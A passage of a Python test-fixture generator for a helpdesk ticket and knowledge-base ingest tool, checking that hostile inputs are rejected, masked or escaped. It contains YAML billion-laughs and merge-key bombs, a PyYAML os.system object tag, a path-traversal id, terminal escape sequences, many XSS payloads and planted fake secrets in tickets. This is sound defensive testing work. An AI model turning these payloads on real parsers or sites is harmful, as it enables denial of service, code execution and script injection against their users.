            "Rows load; CLI output (search, status, gaps, ingest summary) must show them inert."
        ),
    )

    doc = Text()
    doc.row(CSV_HEADER)
    ids = []
    for number, title in enumerate(ESCAPES[:4], start=1):
        tid = f"TEC-{number:03}"
        ids.append(tid)
        doc.row(cells(ticket(tid, number, title=title)))
    bad = doc.row(cells(ticket("TEC-005", 5, created_at="\x1b[2J2025-10-01")))
    write("tickets/term_escapes.csv", doc.text())
    entry(
        "tickets/term_escapes.csv",
        "tickets",
        ids,
        bad_ids=["TEC-005"],
        rejected=[rej(bad, "created_at", "date")],
        notes="Escape sequences as raw bytes in a CSV; one inside a bad date, so it reaches the reject reason too.",
    )


def secrets() -> None:
    doc = Text()
    rows = [
        (
            "SEC-001",
            {
                "description": f"User locked out. Gave the user a temp pw {S['temp_pw']} and asked them to change it at next sign-in."
            },
        ),
        (
            "SEC-002",
            {
                "resolution": f"Reset the password to {S['pw_reset_to']} for jdoe, tested sign-in, user confirmed."
            },
        ),
        (
            "SEC-003",
            {
                "resolution": f"Kiosk account: new pass {S['new_pass']} set, tested, confirmed with site lead."
            },
        ),
        (
            "SEC-004",
            {
                "resolution": f"Temporary password: {S['temp_password']} - user to change it. Tested OK."
            },
        ),
        (
            "SEC-005",
            {
                "description": f"Backup job fails. Config has aws_access_key_id={S['aws_key_id']} and aws_secret_access_key={S['aws_secret']}"
            },
        ),
        (
            "SEC-006",
            {
                "description": f"Client read out the company card {S['card_unspaced']} exp 09/27 for the renewal; also card {S['card_unspaced_mc']}."
            },
        ),
        (
            "SEC-007",
            {
                "resolution": f"Paid with card {S['card_spaced']}; Amex {S['card_amex_dashed']} declined. Confirmed."
            },
        ),
        (
            "SEC-008",
            {
                "resolution": f"Laptop asked for recovery. BitLocker recovery key {S['bitlocker']} entered, Windows booted, confirmed."
            },
        ),
        (
            "SEC-009",
            {
                "resolution": "VPN profile rebuilt:\n"
                + WIREGUARD
                + "\nTested, tunnel up, confirmed."
            },
        ),
        (
            "SEC-010",
            {
                "description": f"App cannot reach DB. Connection string: Server=tcp:acme-sql.database.windows.net,1433;Database=billing;User ID=sqladmin;Password={S['sql_password']};Encrypt=True;"
            },
        ),
        (
            "SEC-011",
            {
                "resolution": f"Updated DSN postgres://svc_app:{S['url_password']}@db01.acme.local:5432/app and restarted the service; tested."
            },
        ),
        (
            "SEC-012",
            {
                "resolution": f"Storage: DefaultEndpointsProtocol=https;AccountName=acmebackup;AccountKey={S['account_key']};EndpointSuffix=core.windows.net ; SAS ?sv=2022-11-02&sig={S['sas_sig']}"
            },
        ),
        (
            "SEC-013",
            {
                "description": f"CI broke. Token {S['github']} and slack {S['slack']} and stripe {S['stripe']} and google {S['google_key']} in the log."
            },
        ),
        ("SEC-014", {"description": f"Auth header was Bearer {S['jwt']}"}),
        (
            "SEC-015",
            {"resolution": "Reissued the server key:\n" + PEM + "\nService restarted, tested."},
        ),
        (
            "SEC-016",
            {
                "description": f"HR asked to update SSN {S['ssn']} and IBAN {S['iban']} in payroll; call back on {S['phone']}."
            },
        ),
        (
            "SEC-017",
            {
                "resolution": f"Guest Wi-Fi: wifi key: {S['wifi']} ; VPN pre-shared key is {S['vpn_psk']} ; passwd={S['passwd_eq']}"
            },
        ),
        ("SEC-018", {"title": f"Reset pw for jdoe to {S['title_pw']}"}),
        ("SEC-019", {"client": f"Acme Dental (billing contact {S['email_in_client']})"}),
        (
            "SEC-020",
            {
                "notes": [
                    {
                        "author": "Dana Whitfield",
                        "created_at": "2025-10-01T09:10:00Z",
                        "text": f"temp pw {S['temp_pw']} given by phone",
                        "internal": True,
                    },
                    {
                        "author": "Marco Ruiz",
                        "created_at": "2025-10-01T09:20:00Z",
                        "text": f"kubeconfig token: {S['k8s_token']}",
                        "internal": True,
                    },
                ]
            },
        ),
        (
            "SEC-021",
            {
                "resolution": f"Switch config: enable password {S['cisco_enable']} and enable secret 5 {S['cisco_hash']}; snmp community: {S['snmp']}. Tested."
            },
        ),
    ]
    for number, (tid, fields) in enumerate(rows, start=1):
        doc.json(ticket(tid, number, **fields))
    write("tickets/secrets_prose.jsonl", doc.text())
    used = [
        "temp_pw",
        "pw_reset_to",
        "new_pass",
        "temp_password",
        "aws_secret",
        "aws_key_id",
        "card_unspaced",
        "card_unspaced_mc",
        "card_spaced",
        "card_amex_dashed",
        "bitlocker",
        "wg_private",
        "wg_psk",
        "sql_password",
        "url_password",
        "account_key",
        "github",
        "slack",
        "stripe",
        "google_key",
        "jwt",
        "pem_line",
        "ssn",
        "iban",
        "phone",
        "wifi",
        "vpn_psk",
        "passwd_eq",
        "title_pw",
        "email_in_client",
        "k8s_token",
        "cisco_enable",
        # not "cisco_hash": a type-5 enable secret is a salted MD5-crypt hash, and issue 15
        # leaves hashes unflagged (a blind writer labelled the same line a hard negative;
        # session 13). The clear enable password beside it stays a secret.
        "snmp",
        "sas_sig",
    ]
    entry(
        "tickets/secrets_prose.jsonl",
        "tickets",
        [tid for tid, _ in rows],
        secrets=[S[k] for k in used],
        notes=(
            "Secrets of every kind in descriptions, resolutions, notes, a title and a client name. "
            "All rows load; no value may appear on any surface. Today's masking misses (among "
            "others) 'temp pw X', 'new pass X', aws_secret_access_key=, unspaced and Amex cards, "
            "BitLocker keys, WireGuard keys, IBANs, Cisco enable secrets and client names."
        ),
    )

    doc = Text()
    header = CSV_HEADER + [f"password={S['passwd_eq']}"]
    doc.row(header)
    doc.row(
        cells(
            ticket(
                "SCV-001",
                1,
                description=f"temp pw {S['temp_pw']}",
                resolution=f"aws_secret_access_key={S['aws_secret']}",
            ),
            header,
        )
    )
    doc.row(
        cells(
            ticket(
                "SCV-002",
                2,
                category=f"VPN psk={S['vpn_psk']}",
                status=f"Closed (card {S['card_unspaced']})",
                priority=f"P1 {S['bitlocker']}",
            ),
            header,
        )
    )
    doc.row(
        cells(
            ticket(
                "SCV-003",
                3,
                client=f"Acme ({S['email_in_client']})",
                assignee=f"Dana Whitfield pw {S['title_pw']}",
            ),
            header,
        )
    )
    write("tickets/secrets_fields.csv", doc.text())
    entry(
        "tickets/secrets_fields.csv",
        "tickets",
        ["SCV-001", "SCV-002", "SCV-003"],
        secrets=[
            S[k]
            for k in (
                "temp_pw",
                "aws_secret",
                "vpn_psk",
                "card_unspaced",
                "bitlocker",
                "email_in_client",
                "title_pw",
                "passwd_eq",
            )
        ],
        notes=(
            "Secrets in every CSV column, the short ones too (status, priority, category, client, "
            "assignee), and in an unknown column's header (which today's warning repeats)."
        ),
    )

    doc = Text()
    doc.json(ticket("SRJ-001", 1))
    b1 = doc.json(ticket("SRJ-002", 2, created_at=f"password {S['temp_password']}"))
    b2 = doc.json(ticket("SRJ-003", 3, time_spent_minutes=f"pw {S['temp_pw']}"))
    b3 = doc.raw(
        '{"id": "SRJ-004", "title": "aws_secret_access_key=' + S["aws_secret"] + '", broken\n'
    )
    b4 = doc.json(ticket(f"SRJ-005 temp pw {S['title_pw']} " + "x" * 90, 4))
    b5 = doc.json(ticket("SRJ-006", 5, reopen_count=f"card {S['card_unspaced']}"))
    doc.json(ticket("SRJ-007", 6))
    write("tickets/secrets_in_rejected_rows.jsonl", doc.text())
    entry(
        "tickets/secrets_in_rejected_rows.jsonl",
        "tickets",
        ["SRJ-001", "SRJ-007"],
        bad_ids=["SRJ-002", "SRJ-003", "SRJ-006"],
        rejected=[
            rej(b1, "created_at", "date"),
            rej(b2, "time_spent_minutes", "number"),
            rej(b3, "*", "json"),
            rej(b4, "id", "long|100"),
            rej(b5, "reopen_count", "whole number"),
        ],
        secrets=[
            S["temp_password"],
            S["temp_pw"],
            S["aws_secret"],
            S["title_pw"],
            S["card_unspaced"],
        ],
        notes=(
            "Secrets inside values that get the row rejected. Reject reasons quote the value "
            "('unparseable date ...'), so the secret reaches the summary, the API response and "
            "HOME/rejects/*.csv unless reasons are masked too."
        ),
    )

    doc = Text()
    configs = [
        (
            "SCF-001",
            f"Deployed .env:\nDB_HOST=db01\nDB_PASSWORD={S['env_db_password']}\nAWS_SECRET_ACCESS_KEY={S['env_aws_secret']}\n",
        ),
        (
            "SCF-002",
            f'appsettings.json: {{"AzureAd": {{"ClientId": "1b2c", "client_secret": "{S["client_secret_json"]}"}}}}',
        ),
        ("SCF-003", f"curl -H 'Authorization: Basic {S['basic_auth']}' https://api.acme.example/"),
        ("SCF-004", f"<pre>{WIREGUARD}</pre>"),
    ]
    for number, (tid, text) in enumerate(configs, start=1):
        doc.json(ticket(tid, number, resolution=f"Fixed the config and tested.\n{text}"))
    write("tickets/secrets_configs.jsonl", doc.text())
    entry(
        "tickets/secrets_configs.jsonl",
        "tickets",
        [tid for tid, _ in configs],
        secrets=[
            S[k]
            for k in (
                "env_db_password",
                "env_aws_secret",
                "client_secret_json",
                "basic_auth",
                "wg_private",
                "wg_psk",
            )
        ],
        notes="Pasted configuration: .env (UPPER_SNAKE keys), JSON client_secret, HTTP Basic auth, WireGuard in <pre>.",
    )


# ============================================================================ kb


def art(
    article_id: str,
    title: str = "",
    body: str = "",
    *,
    front: str = "",
    type_: str = "how-to",
    dates: str = "created: 2025-06-01\nupdated: 2025-06-02",
) -> str:
    title = title or f"How to restart the print spooler ({article_id})"
    body = body or (
        "## Symptoms\n\nJobs stay in the queue.\n\n## Steps\n\n1. Open services.msc.\n"
        "2. Restart the Print Spooler.\n3. Print a test page and confirm with the user.\n"
    )
    head = f"---\nid: {article_id}\ntitle: {json.dumps(title, ensure_ascii=False)}\ntype: {type_}\nauthor: Dana Whitfield\n{dates}\ntags: [printing]\n"
    return head + front + "---\n\n" + body


def raw_art(
    front: str, body: str = "## Steps\n\nRestart the service and confirm with the user.\n"
) -> str:
    return "---\n" + front.strip("\n") + "\n---\n\n" + body


def laughs(levels: int, key: str = "tags") -> str:
    names = "abcdefghijklmnop"
    lines = [f'{names[0]}: &{names[0]} ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for level in range(1, levels):
        prev = names[level - 1]
        lines.append(f"{names[level]}: &{names[level]} [" + ",".join([f"*{prev}"] * 9) + "]")
    lines.append(f"{key}: [*{names[levels - 1]}]")
    return "\n".join(lines)


def merge_bomb(levels: int) -> str:
    names = "abcdefghijklmnop"
    lines = [f"{names[0]}: &{names[0]} {{" + ", ".join(f"k{n}: {n}" for n in range(9)) + "}"]
    for level in range(1, levels):
        prev = names[level - 1]
        lines.append(
            f"{names[level]}: &{names[level]} {{<<: [" + ", ".join([f"*{prev}"] * 9) + "]}"
        )
    lines.append(f"defaults: {{<<: [*{names[levels - 1]}]}}")
    return "\n".join(lines)


def kb_folder(folder: str, files: dict[str, str | bytes], good: list[str], **fields: Any) -> None:
    for name, content in files.items():
        write(f"kb/{folder}/{name}", content)
    entry(f"kb/{folder}", "kb", good, **fields)


def kb() -> None:
    head = "id: {id}\ntitle: {title}\ntype: how-to\nauthor: Dana Whitfield\ncreated: 2025-06-01\nupdated: 2025-06-02\n"

    kb_folder(
        "yaml_billion_laughs",
        {
            "good.md": art("KB-BL-GOOD"),
            "bomb.md": raw_art(
                head.format(id="KB-BL-BOMB", title="Billion laughs under tags") + laughs(9)
            ),
        },
        ["KB-BL-GOOD"],
        bad_ids=["KB-BL-BOMB"],
        isolate=True,
        rejected=[rej("bomb.md", "*", "alias|anchor|yaml|too large|expan")],
        notes=(
            "Issue 13 finding 1: 9 levels of 9 aliases under tags (9^9 = 387M 'lol' strings, "
            "about 2.7 GB once turned into text) in a 700-byte file."
        ),
    )

    kb_folder(
        "yaml_laughs_small",
        {
            "good.md": art("KB-LS-GOOD"),
            "aliases.md": raw_art(
                head.format(id="KB-LS-ALIAS", title="Six levels of aliases under tags") + laughs(6)
            ),
        },
        ["KB-LS-GOOD"],
        bad_ids=["KB-LS-ALIAS"],
        rejected=[rej("aliases.md", "*", "alias|anchor|yaml|too large|expan|tags")],
        notes="A mild alias bomb (531,441 items, 3.7 MB as text): today it commits a multi-megabyte tags row.",
    )

    kb_folder(
        "yaml_laughs_unused_key",
        {
            "good.md": art("KB-LU-GOOD"),
            "unused.md": raw_art(
                head.format(id="KB-LU-BOMB", title="Bomb under a key nobody reads")
                + "tags: [printing]\n"
                + laughs(9, key="x-anchors")
            ),
        },
        ["KB-LU-GOOD"],
        bad_ids=["KB-LU-BOMB"],
        isolate=True,
        rejected=[rej("unused.md", "*", "alias|anchor|yaml|too large|expan")],
        notes="The same 9-level bomb under an ignored key: harmless only until someone reads that key; refused at parse.",
    )

    kb_folder(
        "yaml_merge_bomb",
        {
            "good.md": art("KB-MK-GOOD"),
            "merge.md": raw_art(
                head.format(id="KB-MK-BOMB", title="Merge-key bomb")
                + "tags: [printing]\n"
                + merge_bomb(9)
            ),
        },
        ["KB-MK-GOOD"],
        bad_ids=["KB-MK-BOMB"],
        isolate=True,
        rejected=[rej("merge.md", "*", "alias|anchor|merge|yaml|too large|expan")],
        notes=(
            "'<<' merge keys over 9 aliased levels (9^9 pairs if each merge copied its source). The "
            "PyYAML in use (6.0.x) drops repeated merge keys, which defuses this shape; it stays as a "
            "guard for any other loader, and is refused as alias use like the others."
        ),
    )

    kb_folder(
        "yaml_merge_alias_author",
        {
            "good.md": art("KB-MA-GOOD"),
            "author.md": raw_art(
                "id: KB-MA-BOMB\ntitle: Aliases merged into the author\ntype: how-to\ncreated: 2025-06-01\n"
                + laughs(9, key="x-team").rsplit("\n", 1)[0]
                + "\nbase: &base {team: *i}\nauthor: {<<: *base}"
            ),
        },
        ["KB-MA-GOOD"],
        bad_ids=["KB-MA-BOMB"],
        isolate=True,
        rejected=[rej("author.md", "*", "alias|anchor|merge|yaml|too large|expan|author")],
        notes=(
            "A merge key that carries a 9-level alias tree into author: author is turned into text "
            "with str(), so the tree expands (about 2.7 GB) the way tags does in the billion-laughs file."
        ),
    )

    kb_folder(
        "yaml_deep_nesting",
        {
            "good.md": art("KB-DN-GOOD"),
            "deep.md": raw_art(
                head.format(id="KB-DN-DEEP", title="Tags nested 3000 deep")
                + "tags: "
                + "[" * 3000
                + "]" * 3000
            ),
            "deep_map.md": raw_art(
                head.format(id="KB-DN-MAP", title="Mapping nested 3000 deep")
                + "x: "
                + "{a: " * 3000
                + "1"
                + "}" * 3000
            ),
        },
        ["KB-DN-GOOD"],
        bad_ids=["KB-DN-DEEP", "KB-DN-MAP"],
        rejected=[
            rej("deep.md", "*", "yaml|deep|nest|tags"),
            rej("deep_map.md", "*", "yaml|deep|nest"),
        ],
        notes="Flow collections nested past the recursion limit: PyYAML raises RecursionError, not YAMLError.",
    )

    kb_folder(
        "yaml_tags_and_types",
        {
            "good.md": art("KB-YT-GOOD"),
            "python_tag.md": raw_art(
                head.format(id="KB-YT-PY", title="Python object tag")
                + 'x: !!python/object/apply:os.system ["echo pwned > /tmp/kbassist-pwned"]'
            ),
            "binary.md": raw_art(
                head.format(id="KB-YT-BIN", title="Binary tag as tags")
                + "tags: !!binary aGVsbG8gd29ybGQ="
            ),
            "set.md": raw_art(
                head.format(id="KB-YT-SET", title="Set as tags")
                + "tags: !!set {printing: null, vpn: null}"
            ),
            "two_docs.md": "---\nid: KB-YT-DOCS\ntitle: Two YAML documents\ntype: how-to\n---\nid: KB-YT-OTHER\n---\n\nBody.\n",
        },
        ["KB-YT-GOOD", "KB-YT-DOCS"],
        bad_ids=["KB-YT-PY", "KB-YT-OTHER"],
        exact=False,
        rejected=[
            rej("python_tag.md", "*", "yaml|tag|constructor"),
            rej("binary.md", "tags", "list|text|binary"),
            rej("set.md", "tags", "list"),
        ],
        notes="Unsafe and exotic YAML tags: never executed; a bytes or set value is not a tag list. The second '---' starts the body.",
    )

    values = {
        "good1.md": art("KB-FM-GOOD1"),
        "good2.md": art("KB-FM-GOOD2", type_="Playbook "),
        "id_mapping.md": raw_art("id: {a: 1}\ntitle: Id is a mapping\ntype: how-to"),
        "id_list.md": raw_art("id: [KB-FM-L1, KB-FM-L2]\ntitle: Id is a list\ntype: how-to"),
        "id_bool.md": raw_art("id: yes\ntitle: Id is a boolean\ntype: how-to"),
        "id_newline.md": raw_art(
            'id: "KB-FM-NL1\\nKB-FM-NL2"\ntitle: Id with a newline\ntype: how-to'
        ),
        "id_slash.md": raw_art("id: ../../etc/passwd\ntitle: Id with slashes\ntype: how-to"),
        "id_escape.md": raw_art('id: "KB-FM-\\e[31mRED"\ntitle: Id with an escape\ntype: how-to'),
        "id_too_long.md": raw_art(f"id: KB-{'x' * 100}\ntitle: Id of 103 characters\ntype: how-to"),
        "title_list.md": raw_art("id: KB-FM-TL\ntitle: [a, b]\ntype: how-to"),
        "title_empty.md": raw_art("id: KB-FM-TE\ntitle: ''\ntype: how-to"),
        "type_unknown.md": raw_art("id: KB-FM-TU\ntitle: Unknown type\ntype: novel"),
        "type_list.md": raw_art("id: KB-FM-TY\ntitle: Type is a list\ntype: [playbook]"),
        "tags_mapping.md": raw_art(
            "id: KB-FM-TM\ntitle: Tags is a mapping\ntype: how-to\ntags: {a: b}"
        ),
        "tags_nested.md": raw_art(
            "id: KB-FM-TN\ntitle: Tags nested\ntype: how-to\ntags: [[a, b], {c: d}]"
        ),
        "author_mapping.md": raw_art(
            "id: KB-FM-AM\ntitle: Author is a mapping\ntype: how-to\nauthor: {name: Dana}"
        ),
        "contributors_int.md": raw_art(
            "id: KB-FM-CI\ntitle: Contributors is a number\ntype: how-to\ncontributors: 5"
        ),
        "front_matter_list.md": "---\n- a\n- b\n---\n\nBody\n",
        "unclosed.md": "---\nid: KB-FM-UC\ntitle: Never closed\ntype: how-to\n\nBody without a closing line.\n",
        "invalid_yaml.md": raw_art("id: KB-FM-IY\ntitle: [unclosed\ntype: how-to"),
        "no_front_matter.md": "# Just a heading\n\nNo front matter at all.\n",
        "empty.md": "",
    }
    bad_fields = {
        "id_mapping.md": "id",
        "id_list.md": "id",
        "id_bool.md": "id",
        "id_newline.md": "id",
        "id_slash.md": "id",
        "id_escape.md": "id",
        "id_too_long.md": "id",
        "title_list.md": "title",
        "title_empty.md": "title",
        "type_unknown.md": "type",
        "type_list.md": "type",
        "tags_mapping.md": "tags",
        "tags_nested.md": "tags",
        "author_mapping.md": "author",
        "contributors_int.md": "contributors",
        "front_matter_list.md": "*",
        "unclosed.md": "*",
        "invalid_yaml.md": "*",
        "no_front_matter.md": "id",
        "empty.md": "id",
    }
    kb_folder(
        "front_matter_values",
        values,
        ["KB-FM-GOOD1", "KB-FM-GOOD2"],
        bad_ids=[
            "KB-FM-TL",
            "KB-FM-TE",
            "KB-FM-TU",
            "KB-FM-TY",
            "KB-FM-TM",
            "KB-FM-TN",
            "KB-FM-AM",
            "KB-FM-CI",
            "KB-FM-UC",
            "KB-FM-IY",
            "True",
            "KB-FM-NL1\nKB-FM-NL2",
            "KB-FM-\x1b[31mRED",
            "{'a': 1}",
            "['KB-FM-L1', 'KB-FM-L2']",
            "../../etc/passwd",
        ],
        rejected=[
            rej(path, field, {"*": "front matter|yaml|mapping|closing"}.get(field, field))
            for path, field in bad_fields.items()
        ],
        notes=(
            "Front matter values of the wrong shape: ids that are mappings, lists, booleans, contain "
            "newlines, slashes (unreachable at /articles/<id>) or escapes; list titles; unknown types; "
            "nested tags; a mapping as author. Today several are stored as Python reprs ('{'a': 1}')."
        ),
    )

    kb_folder(
        "front_matter_dates",
        {
            "good.md": art("KB-FD-GOOD"),
            "month_13.md": art("KB-FD-M13", dates="created: 2025-13-45\nupdated: 2025-06-02"),
            "feb_30.md": art("KB-FD-F30", dates="created: 2025-02-30\nupdated: 2025-06-02"),
            "feb_29.md": art("KB-FD-F29", dates="created: 2025-02-29\nupdated: 2025-06-02"),
            "year_0.md": art("KB-FD-Y0", dates="created: 0000-01-01\nupdated: 2025-06-02"),
            "tz_overflow.md": art(
                "KB-FD-TZ", dates="created: 0001-01-01T00:00:00+01:00\nupdated: 2025-06-02"
            ),
            "quoted_bad.md": art("KB-FD-QB", dates="created: '2025-13-45'\nupdated: 2025-06-02"),
            "bool_date.md": art("KB-FD-BD", dates="created: true\nupdated: 2025-06-02"),
            "future.md": art("KB-FD-FUT", dates="created: 2025-06-01\nupdated: 2099-01-01"),
            "updated_before.md": art("KB-FD-UB", dates="created: 2025-06-01\nupdated: 2024-01-01"),
            "int_date.md": art(
                "KB-FD-INT", dates="created: 9223372036854775808\nupdated: 2025-06-02"
            ),
        },
        ["KB-FD-GOOD"],
        bad_ids=[
            "KB-FD-M13",
            "KB-FD-F30",
            "KB-FD-F29",
            "KB-FD-Y0",
            "KB-FD-TZ",
            "KB-FD-QB",
            "KB-FD-BD",
            "KB-FD-FUT",
            "KB-FD-UB",
            "KB-FD-INT",
        ],
        rejected=[
            rej("month_13.md", "created", "date|month|created"),
            rej("feb_30.md", "created", "date|day|created"),
            rej("feb_29.md", "created", "date|day|created"),
            rej("year_0.md", "created", "date|year|created"),
            rej("tz_overflow.md", "created", "date|range|created"),
            rej("quoted_bad.md", "created", "date|iso"),
            rej("bool_date.md", "created", "date|iso"),
            rej("future.md", "updated", "future"),
            rej("updated_before.md", "updated", "earlier|before"),
            rej("int_date.md", "created", "date|iso"),
        ],
        notes=(
            "Issue 13 finding 5: YAML turns 2025-13-45 into a date while parsing and raises "
            "ValueError (not YAMLError), so today one such file ends the whole KB ingest."
        ),
    )

    kb_folder(
        "front_matter_overflow",
        {
            "good.md": art("KB-OF-GOOD"),
            "id_int64.md": raw_art("id: 9223372036854775808\ntitle: Id is 2^63\ntype: how-to"),
            "id_5000_digits.md": raw_art(
                f"id: {'9' * 5000}\ntitle: Id with 5000 digits\ntype: how-to"
            ),
            "title_5000_digits.md": raw_art(f"id: KB-OF-T5K\ntitle: {'8' * 5000}\ntype: how-to"),
            "tags_int64.md": raw_art(
                "id: KB-OF-TAGS\ntitle: Tags are huge numbers\ntype: how-to\ntags: [9223372036854775808, 18446744073709551616]"
            ),
            "float_inf.md": raw_art("id: KB-OF-INF\ntitle: .inf\ntype: how-to"),
        },
        ["KB-OF-GOOD", "9223372036854775808", "KB-OF-TAGS"],
        bad_ids=["KB-OF-T5K"],
        exact=False,
        rejected=[
            rej("id_5000_digits.md", "id", "id|long|digits|number"),
            rej("title_5000_digits.md", "title", "title|long|digits|number"),
        ],
        notes=(
            "Integers of 2^63 and more in front matter (fine as text), 5000-digit integers (Python "
            "refuses to turn them into text: ValueError), and .inf as a title (YAML makes it a float; whether 'inf' is an acceptable title is left open)."
        ),
    )

    kb_folder(
        "surrogates",
        {
            "good.md": art("KB-SG-GOOD"),
            "title.md": raw_art('id: KB-SG-TITLE\ntitle: "Lone \\ud800 surrogate"\ntype: how-to'),
            "tags.md": raw_art(
                'id: KB-SG-TAGS\ntitle: Surrogate tag\ntype: how-to\ntags: ["\\udfff"]'
            ),
            "author.md": raw_art(
                'id: KB-SG-AUTHOR\ntitle: Surrogate author\ntype: how-to\nauthor: "Dana \\udbff"'
            ),
            "pair.md": raw_art(
                'id: KB-SG-PAIR\ntitle: "Valid pair \\ud83d\\udd25 in YAML escapes"\ntype: how-to'
            ),
        },
        ["KB-SG-GOOD"],
        bad_ids=["KB-SG-TITLE", "KB-SG-TAGS", "KB-SG-AUTHOR"],
        exact=False,
        rejected=[
            rej(p, f, "surrogate|unicode|character|encod")
            for p, f in (("title.md", "title"), ("tags.md", "tags"), ("author.md", "author"))
        ],
        notes=(
            "YAML double-quoted '\\ud800' escapes produce lone surrogates; today the article's hash or "
            "the database write raises UnicodeEncodeError and the whole KB run is lost. PyYAML "
            "decodes the escaped pair as two lone surrogates, so pair.md may be rejected or joined."
        ),
    )

    utf16 = art("KB-EN-U16", title="Müller printer, UTF-16")
    kb_folder(
        "encodings",
        {
            "good.md": art("KB-EN-GOOD"),
            "utf16_bom.md": codecs.BOM_UTF16_LE + utf16.encode("utf-16-le"),
            "utf16_nobom.md": art("KB-EN-U16N", title="打印机 UTF-16 without BOM").encode(
                "utf-16-le"
            ),
            "latin1.md": art("KB-EN-LAT", title="Müller Café Ångström").encode("latin-1"),
            "bom_crlf.md": ("\ufeff" + art("KB-EN-CRLF", title="BOM and CRLF"))
            .replace("\n", "\r\n")
            .encode("utf-8"),
            "lone_cr.md": art("KB-EN-CR", title="Lone CR line ends")
            .replace("\n", "\r")
            .encode("utf-8"),
            "nul.md": art(
                "KB-EN-NUL", title="NUL bytes", body="Body with\x00NUL\x00bytes.\n"
            ).encode("utf-8"),
            "invalid_utf8.md": art(
                "KB-EN-BAD", title="Café with one bad byte", body="Bad byte here: @@\n"
            )
            .encode("utf-8")
            .replace(b"@@", b"\xff"),
        },
        [
            "KB-EN-GOOD",
            "KB-EN-U16",
            "KB-EN-U16N",
            "KB-EN-LAT",
            "KB-EN-CRLF",
            "KB-EN-CR",
            "KB-EN-NUL",
            "KB-EN-BAD",
        ],
        expect_fields={
            "KB-EN-U16": {"title": "Müller printer, UTF-16"},
            "KB-EN-U16N": {"title": "打印机 UTF-16 without BOM"},
            "KB-EN-LAT": {"title": "Müller Café Ångström"},
            "KB-EN-BAD": {"title": "Café with one bad byte"},
        },
        notes=(
            "Articles in UTF-16 (with and without BOM), Latin-1, BOM+CRLF, lone CR, with NULs and "
            "with one invalid byte. Today UTF-16 is read as Windows-1252, so the front matter is "
            "not found and the article is rejected; one bad byte turns the whole article's UTF-8 into mojibake."
        ),
    )

    kb_folder(
        "duplicate_ids",
        {
            "a.md": art("KB-DU-1", title="First copy"),
            "b/a.md": art("KB-DU-1", title="Same id in a subfolder"),
            "c.md": raw_art('id: " KB-DU-1 "\ntitle: Same id with spaces\ntype: how-to'),
            "d.md": art("kb-du-1", title="Same id in lower case"),
            "e.md": art("KB-DU-2"),
        },
        ["KB-DU-1", "KB-DU-2"],
        exact=False,
        rejected=[rej("b/a.md", "id", "duplicate"), rej("c.md", "id", "duplicate")],
        notes="The same article id in three files (the first in path order wins); a case variant may be a distinct id or a duplicate.",
    )

    kb_folder(
        "path_tricks",
        {
            "good.md": art("KB-PT-GOOD"),
            "trap.md/inner.md": art("KB-PT-INNER", title="Inside a folder named trap.md"),
            "UPPER.MD": art("KB-PT-UPPER", title="Upper-case extension"),
            "spaces and ünïcödé name.md": art(
                "KB-PT-UNI", title="File name with spaces and accents"
            ),
            ".hidden.md": art("KB-PT-HIDDEN", title="Hidden file"),
            "-rf.md": art("KB-PT-DASH", title="File name starting with a dash"),
            "nested/deeper/deepest/x.md": art("KB-PT-NEST", title="Nested three folders deep"),
            "notes.md.bak": art("KB-PT-BAK", title="Backup copy, not markdown"),
        },
        ["KB-PT-GOOD", "KB-PT-INNER", "KB-PT-UNI", "KB-PT-DASH", "KB-PT-NEST"],
        bad_ids=["KB-PT-BAK"],
        exact=False,
        notes=(
            "A folder named trap.md (today rglob('*.md') returns it and read_bytes raises "
            "IsADirectoryError, ending the run), an upper-case .MD, a hidden file, odd names. "
            "UPPER.MD and .hidden.md may load or be skipped; a .bak is never read."
        ),
    )

    xss_body = (
        "## Steps\n\n<script>alert('kb-xss-1')</script>\n\n<img src=x onerror=alert('kb-xss-2')>\n\n"
        "[click me](javascript:alert('kb-xss-3')) and [again](JaVaScRiPt:alert('kb-xss-4'))\n\n"
        "<javascript:alert('kb-xss-5')>\n\n[ref link][evil]\n\n[evil]: javascript:alert('kb-xss-6')\n\n"
        "![image](x\" onerror=\"alert('kb-xss-7'))\n\n[entity](&#106;avascript:alert('kb-xss-8'))\n\n"
        "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n\n"
        "<iframe src=\"https://evil.example\"></iframe>\n\n```html\n<script>alert('in a code fence is fine as text')</script>\n```\n"
    )
    raw_html = (
        "<div onclick=\"alert('kb-xss-9')\">\n\n# Heading inside raw HTML\n\n</div>\n\n<style>body{display:none}</style>\n\n"
        "<details open ontoggle=alert('kb-xss-10')><summary>x</summary></details>\n\n"
        "<a href=\"javascript:alert('kb-xss-11')\">html link</a>\n\n<svg><script>alert('kb-xss-12')</script></svg>\n"
    )
    kb_folder(
        "xss",
        {
            "good.md": art("KB-XS-GOOD"),
            "body.md": art("KB-XS-BODY", title="XSS in the body", body=xss_body),
            "raw_html.md": art("KB-XS-HTML", title="Raw HTML blocks", body=raw_html),
            "title.md": raw_art(
                "id: KB-XS-TITLE\ntitle: \"<script>alert('kb-xss-13')</script><img src=x onerror=alert('kb-xss-14')>\"\n"
                'type: how-to\nauthor: "<svg onload=alert(\'kb-xss-15\')>"\ntags: ["\\"><script>alert(\'kb-xss-16\')</script>"]\n'
                "clients: [\"<b onmouseover=alert('kb-xss-17')>Acme</b>\"]\nupdated_by: \"javascript:alert('kb-xss-18')\"",
                body="# <script>alert('kb-xss-19')</script> heading\n\n## Heading with [link](javascript:alert('kb-xss-20'))\n\nText.\n",
            ),
        },
        ["KB-XS-GOOD", "KB-XS-BODY", "KB-XS-HTML", "KB-XS-TITLE"],
        notes=(
            "Script tags, event handlers, javascript:/data: links (plain, mixed case, entity-encoded, "
            "reference-style, autolink), raw HTML blocks, and payloads in title, author, tags, "
            "clients, updated_by and headings (which become anchors). All load; rendering escapes."
        ),
    )

    kb_folder(
        "terminal_escapes",
        {
            "good.md": art("KB-TE-GOOD"),
            "title.md": raw_art(
                'id: KB-TE-TITLE\ntitle: "\\e[2J\\e[HCleared by an article title"\ntype: how-to\nauthor: "Dana\\e]0;pwned\\a"'
            ),
            "body.md": art(
                "KB-TE-BODY",
                title="Escapes in the body",
                body="## Steps\n\n\x1b]52;c;ZWNobyBwd25lZA==\x07Run this.\n\x1b[8mhidden\x1b[0m\n",
            ),
        },
        ["KB-TE-GOOD", "KB-TE-TITLE", "KB-TE-BODY"],
        notes="Escape sequences in an article title, author and body: stored as data, never sent raw to a terminal.",
    )

    secret_body = (
        "## Setup\n\n"
        f"Give the user the temp pw {S['temp_pw']} and have them change it.\n\n"
